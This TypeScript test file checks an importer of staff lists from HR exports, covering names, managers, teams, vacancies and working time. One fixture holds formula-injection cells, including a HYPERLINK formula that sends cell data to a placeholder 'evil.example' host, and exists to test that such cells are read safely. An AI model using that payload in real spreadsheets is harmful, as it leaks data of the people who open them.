import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect } from 'vitest';
import { guessMapping } from '../../src/importing/mapping/guessMapping.ts';
import type { LeftOut, List } from '../../src/importing/rows/list.ts';
import { readList } from '../../src/importing/rows/readList.ts';
import { squadsOfManagers } from '../../src/importing/rows/reporting.ts';
import { REAL_DATA } from '../support/dataFolder.ts';
import { counted, peoplePicture, reportPicture, tableFrom } from '../support/listPicture.ts';
import { MINIATURE_NAMES, type MiniatureName, readMiniature, TODAY } from '../support/miniature.ts';
import { itOnRealFile } from '../support/realData.ts';

/** A miniature whose people, questions and report are these; what is kept of its other columns is left out. */
function miniature(title: string, name: MiniatureName, picture: string): void {
  itOnRealFile(title, `mini/${name}`, () => {
    const { asked, list } = readMiniature(name);
    const people = list.people.map((person) => ({ ...person, fields: {} }));
    const questions = asked.map((each) =>
      each.kind === 'full-week' ? `${each.kind} ${each.lines.join(' ')}` : each.kind,
    );
    const report = reportPicture(list);
    expect(
      [
        '',
        peoplePicture({ ...list, people }),
        ...(questions.length === 0 ? [] : [`asked: ${questions.join(', ')}`]),
        ...(report === '' ? [] : [`--\n${report}`]),
      ].join('\n'),
    ).toBe(picture);
  });
}

describe('a list of a real shape', () => {
  miniature(
    'with rows without a name, dashes with numbers behind agencies, and amounts',
    '02-currency-na.csv',
    `
2 Marit R Hennink, role Envir Quality Program Spec Ii, in Environment and Energy
3 Olu Bassey, role Envir Quality Program Spec Ii, in Environment and Energy
4 Mirte Anne Leisner, role Teacher (SCATA Contract), in Health & Human Services
5 Na Li, role Nurse, in Health & Human Services
6 Jen Null, role Nurse, in Health & Human Services
7 Elias H Caan, role JT Program Coordinator, in Labor
9 Rosa True, role Manager, in Labor
10 Tom Undecided, role Auditor
11 Dirk Post, role Nurse, in Health & Human Services
asked: department
--
8 no-name: Labor - Agency 23 | NA | JT Program Coordinator | NA | State Employees`,
  );

  miniature(
    'of accounts: guests, closed ones, and one without a name of its own',
    '04-entra-users.csv',
    `
2 Ann Lee, #7cc0c81b-0000-4000-8000-000000000001, ann.lee@example.org, role Engineer, at Utrecht, in Payments
3 Bob Stone, #7cc0c81b-0000-4000-8000-000000000002, role Engineer, in Payments
4 Carl Gast, external, #7cc0c81b-0000-4000-8000-000000000003, carl@other.com
6 =3+1, #7cc0c81b-0000-4000-8000-000000000005
8 svc backup, #7cc0c81b-0000-4000-8000-000000000007
9 Eve Ng, #7cc0c81b-0000-4000-8000-000000000008, eve@example.org, role Engineer, in Cards/Ledger
10 Eve Ng, #7cc0c81b-0000-4000-8000-000000000009, eve2@example.org, role Designer, in Cards
asked: department
--
5 left: Dora Dor
7 left: Zaal 2.14
8 ? perhaps-nobody: svc backup
10 ? same-name: Eve Ng (9)`,
  );

  miniature(
    'with lines above the header, names turned round and managers behind units',
    '06-workday-unicode.txt',
    `
5 Ana Ruiz, #10012, role Engineering Manager, fte 1, in Retail, under Bea Ochoa
6 Bea Ochoa, #00813, role VP Retail, fte 1, in Executive
7 Cal Díaz, #00931, role Engineer, fte 0.8, in Payments
9 Eve Lam, external, #C0044, role Engineer, in Payments
10 Dee Park, #00978, role Engineer "L3", fte 0.6, in Payments
11 Ana Ruiz, #10455, role Designer, fte 1, in Cards
12 P-00412 Engineer, vacancy, role Engineer, in Cards
asked: department
--
1 above-header: Worker Report - as of 09/01/2026
2 above-header: Organization: Retail (inherited)
8 left: Fay Roe
13 total: Total | 8
6 ? manager-unknown: Ola Dahl
7 ? manager-ambiguous: Ana Ruiz (5, 11)
9 ? manager-ambiguous: Ana Ruiz (5, 11)
10 ? manager-ambiguous: Ana Ruiz (5, 11)
11 ? manager-ambiguous: Ana Ruiz (5, 11)
11 ? same-name: Ana Ruiz (5)
12 ? manager-ambiguous: Ana Ruiz (5, 11)`,
  );

  miniature(
    'with two header rows, codes behind names and lost zeros',
    '07-successfactors-udf.csv',
    `
3 Christa Dahl, #000101, cdahl@example.org, role Head of Retail, tribe Retail (R), at Utrecht (UTR), in Board (Retail (R))
4 Jip Bos, #000102, jbos@example.org, role Engineering lead, tribe Retail (R), at Utrecht (UTR), in Payments (Retail (R)), under Christa Dahl
5 Mo Nys, #000103, mnys@example.org, role Engineer, tribe Retail (R), at Utrecht (UTR), in Payments (Retail (R)), under Jip Bos
6 Shu Li, #000104, sli@example.org, role Engineer, tribe Retail (R), at Gent (GNT), in Payments (Retail (R)), under Jip Bos
8 Kim Pó, #000106, kpo@example.org, role Product Owner, tribe Retail (R), at Utrecht (UTR), in Cards* (Retail (R))
9 Zed Externe, external, #X00107, zed@vendor.example, role Consultant, tribe Retail (R), in Cards (Retail (R)), under Jip Bos
10 Bo Bij, external, #000108, role Engineer, tribe Retail (R), in Cards (Retail (R)), under Kim Pó
asked: department
--
2 second-header: Status | User ID | Username | First Name | Last Name | Middle Name | Email | Manager | Human Resource | Department | Job Code | Division | Location | Time Zone | Hire Date | Employee ID | Title | Matrix Manager
7 left: Oud Gediende
4 ? meaningless [HIREDATE]: 13/02/2015`,
  );

  miniature(
    'of contracts: one person in two rows, names in three parts, a sum at the end',
    '08-afas-cp1252.csv',
    `
3 Renée van der Berg, #000041, role Productowner, tribe Wonen, fte 1, in Hypotheek – app* (Wonen)
4+5 Daniël de Groot, #000042, role Ontwikkelaar, tribe Wonen, fte 0.8, in Hypotheek – app (Wonen) 62.5% + Inzicht (Wonen) 37.5%, under Renée van der Berg
6 Els in ’t Veld, #000043, role Tester, tribe Wonen, fte 0.8889, in Hypotheek – app (Wonen), under Renée van der Berg
8 Fatima el Amrani, #000045, role Data-analist, tribe Dagelijks, fte 0, in Betalen (Dagelijks), under Renée van der Berg
9 Jan Jansen, #000046, role Ontwikkelaar, tribe Dagelijks, fte 1, in Betalen (Dagelijks), under Fatima el Amrani
10 Jan Jansen, #000047, role Ontwikkelaar, tribe Dagelijks, fte 1, in Betalen (Dagelijks), under Fatima el Amrani
11 Zoë van Dam, #000048, role Chapterlead ontwikkeling, tribe Dagelijks, fte 0.9, in Betalen (Dagelijks)
asked: department
--
7 left: Bjørn Håland-de Vries
12 total: Totaal | 6,39
8 ? starts-later: 2027-01-01
10 ? same-name: Jan Jansen (9)
11 ? manager-self [Leidinggevende]: 48`,
  );

  miniature(
    'with working time in every notation',
    '09-fte-notations.csv',
    `
2 Aad Appel, fte 0.8, in Appels
3 Bea Boom, fte 0.8, in Appels
4 Cas Cel, fte 0.8, in Appels
5 Dre Dam, fte 0.8, in Appels
6 Eef Eik, fte 0.8, in Appels
7 Fay Fok, fte 1, in Appels
8 Gia Gal, fte 1, in Appels
9 Hub Hof, fte 0.9, in Appels
10 Ids Ink, fte 0.5, in Appels
11 Jet Jol, fte 0.8, in Appels
12 Kai Kok, in Appels
13 Lot Lam, in Appels
14 Mik Mol, fte 1.2, in Appels
15 Noa Nel, in Appels
16 Oda Oud, in Appels
17 Pim Pas, fte 1, in Appels
18 Qi Qua, in Appels
19 Ria Rek, in Appels
asked: full-week 4 9 17
--
14 ? odd-fte [FTE / uren]: 1,2
15 ? odd-fte [FTE / uren]: -0,5
16 ? odd-fte [FTE / uren]: 80
18 ? odd-fte [FTE / uren]: 0,8 / 0,2
19 ? odd-fte [FTE / uren]: 1.000,00`,
  );

  miniature(
    'in German, with line breaks in cells and letters in two forms',
    '10-personio-de.csv',
    `
2 Jörg Müller, #1001, role Leiter Entwicklung, chapter Entwicklung, fte 1, in Zahlung
3 Anke Müller, #1002, role Entwicklerin, chapter Entwicklung, fte 0.8, in Zahlung + Karten, under Jörg Müller
5 Gül Weiß, #1003, role Entwicklerin, chapter Entwicklung, fte 0.7625, in Karten, under Jörg Müller
6 N.N., vacancy, #1004, role Entwickler:in, chapter Entwicklung, fte 1, in Karten, under Jörg Müller
7 Ümit Öztürk, external, #1005, role Entwickler, chapter Entwicklung, in Karten, under Jörg Müller
9 Ina GROSS, #1007, role Product Owner, chapter Produkt, fte 1, in Zahlung*, under Jörg Müller
10 Gül Weiss, #1008, role Testerin, chapter Qualität, fte 0.5, in Zahlung + Karten, under Gül Weiß
11 unbesetzt, vacancy, #1009, chapter Qualität, in Zahlung
asked: department, full-week 2 3 5 6 8 9 10
--
8 left: Ina Groß
10 ? same-name: Gül Weiss (5)`,
  );

  miniature(
    'with several teams in a cell, and their tribes behind them',
    '12-teams-in-a-cell.csv',
    `
2 Ann Aal, chapter Backend, in Mortgage app (Home)
3 Bo Beek, chapter Backend, in Mortgage app (Home) + Insight (Home)
4 Cis Cop, role Product Owner, chapter Frontend, in Mortgage app* (Home)
5 Dia Dok, chapter Frontend, in Mortgage app (Home) + Insight (Home)
7 Eda Eng, chapter Data, in Insight (Home) + Payments (Daily)
8 Fed Fay, chapter Platform, in CI/CD (Platform)
9 Gus Gil, role PO, chapter Platform, in CI/CD (Platform) + Payments (Daily)
10 Hal Hop, chapter Data, in Payments (Daily) + Insight (Home)
11 Ivo Ink, chapter Data, in Payments (Daily) 60% + Insight (Home) 40%
12 Jan Jas, chapter Backend, in Payments & Cards (Daily)
13 Kes Kop, role Agile coach
14 Lia Lub, chapter QA, in Payments (EU) (Daily)
15 Moe Mak, chapter QA
--
9 ? owner-of-which: PO
15 ? meaningless [Team(s)]: tbd`,
  );

  miniature(
    'with managers in circles, missing, and of two minds',
    '13-managers-broken.csv',
    `
2 Ada Aas, #00012, in Alpha
3+13 Bob Bik, #00013, in Alpha + Gamma
4 Cem Cas, #00014, in Alpha, under Bob Bik
5 Dee Dam, #00015, in Beta
6 Eli Egg, #00016, in Beta
7 Fay Fin, #00017, in Beta
8 Gus Gum, #00018, in Beta
9 Jan Jansen, #00019, in Beta
10 Jan Jansen, #00020, in Gamma
11 Hed Hof, #00021, in Gamma
12 Ion Ill, #00022, in Gamma, under Ada Aas
14 Zac Zon, #12, in Gamma, under Bob Bik
15 Exp Onent, in Gamma
16 Kay Kay, #00023, in Gamma
--
3 ? manager-ambiguous [Manager No]: 12 (2, 14)
5 ? manager-circle: 16 (6)
6 ? manager-circle: 15 (5)
7 ? manager-self [Manager No]: 17
8 ? manager-unknown [Manager No]: 99999
9 ? manager-ambiguous [Manager No]: 12 (2, 14)
10 ? manager-ambiguous [Manager No]: 12 (2, 14)
10 ? same-name: Jan Jansen (9)
11 ? manager-ambiguous [Manager]: Jan Jansen (9, 10)
15 ? meaningless [Emp No]: 1.2E+01
16 ? manager-differs [Manager No]: 00012 / Bob Bik (2, 3)`,
  );

  miniature(
    'with vacancies, externals and people who share a seat',
    '14-vacancies-jobshare.csv',
    `
2 Vacature, vacancy, role Ontwikkelaar, chapter Backend, in Alpha
3 VACANCY - Backend, vacancy, role Developer, chapter Backend, in Alpha
3 VACANCY - Backend, vacancy, role Developer, chapter Backend, in Alpha
4 TBD, vacancy, chapter Frontend, in Alpha
5 N.N., vacancy, role Analist, chapter Data, in Beta
6 Open, vacancy, role Analist, chapter Data, in Beta
7 Joe Open, role Analist, chapter Data, in Beta
8 Jan de Vries, role Product owner, fte 0.5, in Beta*
8 Piet Bakker, role Product owner, fte 0.5, in Beta*
9 A. Jansen, role Product owner, fte 0.5, in Gamma*
9 B. Smit, role Product owner, fte 0.5, in Gamma*
10 Chris Evers, external, role Ontwikkelaar, chapter Backend, in Alpha
11 Dana Fox, external, role Analist, chapter Data, in Gamma
12 Eef Gaal, role Analist, chapter Data, in Gamma
13 Fie Hal, role Analist, chapter Data, in Gamma
14 Gré Ikes, role Ontwikkelaar, chapter Backend, in Gamma
15 Hans Jol, role Ontwikkelaar, chapter Backend, in Gamma
--
16 footnote: * met pensioen per 1 januari
17 no-name: Niet ingevuld | Gamma | Backend
18 no-name: ?? | Alpha | Backend
14 ? meaningless [Naam]: tot 1-12`,
  );

  miniature(
    'whose cells look like formulas',
    '16-formula-injection.csv',
    `
2 =HYPERLINK("http://evil.example/?x="&A1), in Alpha
3 +Plus Person, in -Minus team
4 @handle, in Alpha
5 Ann Aal, in Alpha
7 'Quoted, in Alpha
--
6 no-name: - | Alpha`,
  );

  miniature(
    'pasted from anywhere, without a header',
    '19-pasted-list.txt',
    `
1 Ann Aal, role Office Manager
2 Bo Beek, role Bookkeeper
3 Cis Cop, role Server
4 Dia Dok, role Chief Happiness Wrangler
6 Ed Eel
7 Fi Fox, role Design
8 Gus Gil
9 Hal Hop, hal.hop@example.org
10 Ida Ink, ida@example.org
10 Joe Jam, joe@example.org`,
  );
});

/** What is counted of a miniature beforehand. */
interface Counts {
  people: number;
  vacancies?: number;
  external?: number;
  unnamed?: number;
  leftOut?: number;
  skipped?: number;
  unplaced?: number;
  tribes?: number;
  squads?: Record<string, number> | number;
  chapters?: Record<string, number>;
}

/** The same of a list that was read. */
function countsOf(list: List): Required<Counts> {
  const { people, leftOut } = list;
  const out = (...whys: LeftOut['why'][]) => leftOut.filter(({ why }) => whys.includes(why)).length;
  const vacancies = people.filter(({ kind }) => kind === 'vacancy').length;
  const tribes = people.flatMap(({ tribe, squads }) => [tribe, ...squads.map((seat) => seat.tribe)]);
  return {
    people: people.length - vacancies,
    vacancies,
    external: people.filter(({ kind }) => kind === 'external').length,
    unnamed: out('no-name'),
    leftOut: out('left', 'number-taken'),
    skipped: out('total', 'footnote'),
    unplaced: people.filter(({ squads }) => squads.length === 0).length,
    tribes: new Set(tribes.filter(Boolean)).size,
    squads: counted(list, ({ squads }) => squads.map(({ squad }) => squad)),
    chapters: counted(list, ({ chapter }) => (chapter === '' ? [] : [chapter])),
  };
}

describe('the counts that were made by hand', () => {
  for (const name of MINIATURE_NAMES) {
    itOnRealFile(`hold for ${name}`, `mini/${name}`, () => {
      const all = JSON.parse(readFileSync(resolve(REAL_DATA, 'mini/expected.json'), 'utf8')) as Record<string, Counts>;
      const { squads, ...expected } = all[name] as Counts;
      const found = countsOf(readMiniature(name).list);
      expect(found).toMatchObject({ vacancies: 0, external: 0, unnamed: 0, leftOut: 0, skipped: 0, ...expected });
      // One row of Labor has no name: it is counted by hand, and refused until it has one.
      if (name === '02-currency-na.csv') expect(squads).toEqual({ ...Object(found.squads), Labor: 3 });
      else if (typeof squads === 'object') expect(found.squads).toEqual(squads);
      else if (squads !== undefined) expect(Object.keys(found.squads).length).toBe(squads);
    });
  }
});

/** Whoever reports to each manager of the senior posts, and the manager: counted by another program. */
const SENIOR = {
  'Person P0071 of Board Ministerial and Communications': 8,
  'Person P0058 of Board Ministerial and Communications': 7,
  'Person P0004 of Board Ministerial and Communications': 3,
  'Person P0020 of Board Ministerial and Communications': 5,
  'Person P0026 of Board Ministerial and Communications': 4,
  'Person P0009 of Board Ministerial and Communications': 4,
  'Economics and Fiscal': 6,
  'Infrastructure UK (IUK)': 2,
  'Financial Stability': 6,
  Fiscal: 4,
  'Enterprise and Growth': 5,
  'Person P0032 of Corporate Centre': 5,
  'Public Spending': 6,
  'Business and International Tax': 7,
  'Personal Tax, Welfare and Pensions': 7,
  'Person P0049 of Public Services': 4,
  'Person P0001 of International and EU': 5,
  'Person P0065 of Public Services': 7,
  'Person P0002 of Financial Services': 3,
  'Person P0027 of Financial Services': 4,
  'Strategy, Planning and Budget': 4,
  'Joint Workplace solutions': 2,
  'Person P0052 of Corporate Centre': 2,
  'Person P0045 of International and EU': 3,
};

/** A file of the folder as a list, nothing having been asked. */
function readFile(file: string, separator: string): List {
  const table = tableFrom(file, separator);
  const { mapping, questions } = guessMapping(table);
  expect(questions).toEqual([]);
  return readList(table, mapping, TODAY);
}

describe('a large list', () => {
  itOnRealFile('of senior posts has squads of its managers', 'uk-treasury-2013-senior.csv', () => {
    const list = readFile('uk-treasury-2013-senior.csv', ',');
    expect(countsOf(list)).toMatchObject({
      people: 89,
      vacancies: 1,
      unnamed: 0,
      leftOut: 0,
      skipped: 0,
      unplaced: 90,
    });
    expect(reportPicture(list)).toBe('27 ? perhaps-nobody: N/D\n73 ? perhaps-nobody: N/D');
    expect(list.people.filter(({ managerAt }) => managerAt === null).map(({ name }) => name)).toEqual(['Person P0071']);
    const placed = squadsOfManagers(list, 'Unit');
    expect(countsOf(placed)).toMatchObject({ unplaced: 0 });
    expect(
      counted(placed, ({ squads }) =>
        squads.map(({ squad, tribe }) => (tribe === '' ? squad : `${squad} of ${tribe}`)),
      ),
    ).toEqual(SENIOR);
  });

  itOnRealFile('of junior posts has as many as their working time makes', 'uk-treasury-2013-junior.csv', () => {
    const list = readFile('uk-treasury-2013-junior.csv', ',');
    const fte = list.people.reduce((sum, person) => sum + (person.fte ?? 0), 0);
    expect([new Set(list.people.flatMap(({ lines }) => lines)).size, list.people.length, fte.toFixed(2)]).toEqual([
      315,
      1045,
      '1020.49',
    ]);
    // Their managers are in another file.
    expect(new Set(list.told.map(({ about }) => about))).toEqual(new Set(['manager-unknown']));
    expect(list.told.length).toBe(315);
  });

  itOnRealFile('has people of several teams in a cell', 'cloudfoundry-people.tsv', () => {
    const list = readFile('cloudfoundry-people.tsv', '\t');
    const counts = countsOf(list);
    expect(counts).toMatchObject({
      people: 201,
      vacancies: 0,
      unnamed: 0,
      leftOut: 0,
      skipped: 0,
      unplaced: 9,
      tribes: 0,
    });
    expect([Object.keys(counts.squads).length, list.people.flatMap(({ squads }) => squads).length]).toEqual([51, 424]);
    expect(list.told).toEqual([]);
  });

  itOnRealFile('of memberships has each person once, by number', 'cloudfoundry-memberships.tsv', () => {
    const list = readFile('cloudfoundry-memberships.tsv', '\t');
    expect(countsOf(list)).toMatchObject({ people: 201, unnamed: 0, leftOut: 0, skipped: 0, tribes: 9 });
    expect(list.people.flatMap(({ lines }) => lines).length).toBe(455);
    expect(new Set(list.told.map(({ about }) => about))).toEqual(new Set(['differs']));
  });
});
